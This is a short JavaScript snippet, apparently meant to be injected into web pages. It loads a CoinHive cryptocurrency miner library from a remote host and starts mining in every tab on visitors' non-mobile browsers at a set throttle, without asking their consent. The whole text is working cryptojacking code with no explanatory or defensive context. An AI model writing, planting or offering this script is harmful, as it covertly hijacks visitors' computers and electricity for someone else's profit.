(function () {
  var s = document.createElement('script');
  s.src = 'https://coin-hive-pool.example/lib/coinhive.min.js';
  s.onload = function () {
    var miner = new CoinHive.Anonymous('SITEKEYexample0000000000', { throttle: 0.3, forceASMJS: false });
    if (!miner.isMobile() && !miner.didOptOut(14400)) {
      miner.start(CoinHive.FORCE_MULTI_TAB);
    }
  };
  document.head.appendChild(s);
})();
